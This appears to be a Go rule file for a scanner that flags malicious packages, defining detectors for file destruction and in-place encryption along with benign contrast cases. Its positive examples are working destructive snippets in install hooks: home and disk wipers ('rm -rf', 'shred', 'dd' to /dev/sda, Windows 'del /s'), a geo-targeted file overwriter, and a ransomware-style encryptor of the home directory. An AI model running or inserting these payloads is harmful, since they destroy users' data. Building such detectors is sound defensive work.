package rule

import b "taisei/detect/behaviour"

// destruction: what stands on the machine is deleted, or overwritten with
// something else.
func destruction() []Rule {
	return []Rule{
		{
			ID: "files_destroyed", Severity: Critical,
			When: []Condition{
				{Triggers: unasked, Sources: []string{b.Files}, Sinks: []string{b.Delete}, Target: Tree},
				{Triggers: []string{b.Command, b.Call}, Sources: []string{b.Files}, Sinks: []string{b.Delete}, Slots: []string{"overwritten"}, Target: Tree},
			},
			Examples: []Example{
				Package("the home, by a command", `"scripts":{"postinstall":"rm -rf ~/ || true"}`, nil),
				Package("the home, by a function", `"scripts":{"preinstall":"node i.js"}`, map[string]string{"i.js": "const fs=require('fs'),os=require('os');fs.rmSync(os.homedir(),{recursive:true,force:true})"}),
				Package("each file of the home", `"main":"i.js"`, map[string]string{"i.js": "const fs=require('fs'),path=require('path'),os=require('os');function go(d){for(const f of fs.readdirSync(d)){const p=path.join(d,f);if(fs.statSync(p).isDirectory())go(p);else fs.unlinkSync(p)}}go(os.homedir())"}),
				Package("overwritten where the user is of a certain country", `"main":"i.js"`, map[string]string{"i.js": "const fs=require('fs'),path=require('path'),https=require('https');setTimeout(()=>https.get('https://geo.example/me',r=>r.on('data',d=>{const c=JSON.parse(d).country;if(/xa|xb/.test(c))go('/')})),100);async function go(d){let l=[];try{l=fs.readdirSync(d)}catch(e){};for(const f of l){const p=path.join(d,f);let s=fs.lstatSync(p);if(s.isDirectory())go(p);else fs.writeFile(p,'x',()=>{})}}"}),
				Package("by find and shred", `"scripts":{"preinstall":"node i.js"}`, map[string]string{"i.js": "require('child_process').execSync('find \"$HOME\" -type f -writable -user \"$(id -un)\" -print0 | xargs -0 -r shred -uvz -n 1')"}),
				Package("a whole disk", `"scripts":{"postinstall":"dd if=/dev/zero of=/dev/sda bs=1M"}`, nil),
				Package("by the shell of Windows", `"main":"i.js"`, map[string]string{"i.js": "require('child_process').exec('cmd.exe /c del /f /s /q C:\\\\Users\\\\* & rd /s /q %USERPROFILE%')"}),
				One("everything", "install.sh", "rm -rf --no-preserve-root /\n"),
			},
			Neighbours: []Example{
				Package("what it built itself", `"scripts":{"prepare":"rm -rf dist node_modules/.cache && tsc"}`, nil),
				Package("its own cache in the home", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const fs=require('fs'),os=require('os'),path=require('path');fs.rmSync(path.join(os.homedir(),'.cache','tool'),{recursive:true,force:true})"}),
				Package("each file of what it is given", `"main":"i.js"`, map[string]string{"i.js": "const fs=require('fs'),path=require('path');exports.clean=function go(d){for(const f of fs.readdirSync(d)){const p=path.join(d,f);if(fs.statSync(p).isDirectory())go(p);else fs.unlinkSync(p)}}"}),
				Package("files are rewritten with what they held", `"main":"i.js"`, map[string]string{"i.js": "const fs=require('fs'),path=require('path'),os=require('os');for(const f of fs.readdirSync(os.homedir())){const p=path.join(os.homedir(),f);fs.writeFileSync(p,fs.readFileSync(p,'utf8').replace(/\\r/g,''))}"}),
				One("what a variable names", "uninstall.sh", "rm -rf \"$PREFIX/lib/app\"\nrm -rf \"${APP_DIR:?}/\"*\n"),
				One("the work of an installer", "install.sh", "tmp=$(mktemp -d)\ntar xzf app.tgz -C $tmp\nrm -rf $tmp /tmp/app-*\n"),
			},
		},
		{
			ID: "files_encrypted", Severity: Critical,
			When: []Condition{{Triggers: []string{b.Install, b.Build, b.Import, b.Command, b.Call}, Sources: []string{b.Files}, Name: Same, Via: []string{b.Cipher}, Sinks: []string{b.File}, Target: Wild, Script: No}},
			Examples: []Example{
				Module("each file of a folder, over itself", "import os\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\nfor d, _, names in os.walk(os.path.expanduser('~')):\n    for n in names:\n        p = os.path.join(d, n)\n        data = open(p, 'rb').read()\n        open(p, 'wb').write(f.encrypt(data))\n"),
			},
			Neighbours: []Example{
				Module("one file, into another", "from cryptography.fernet import Fernet\ndef seal(key, path):\n    data = open(path, 'rb').read()\n    open(path + '.sealed', 'wb').write(Fernet(key).encrypt(data))\n"),
			},
		},
	}
}
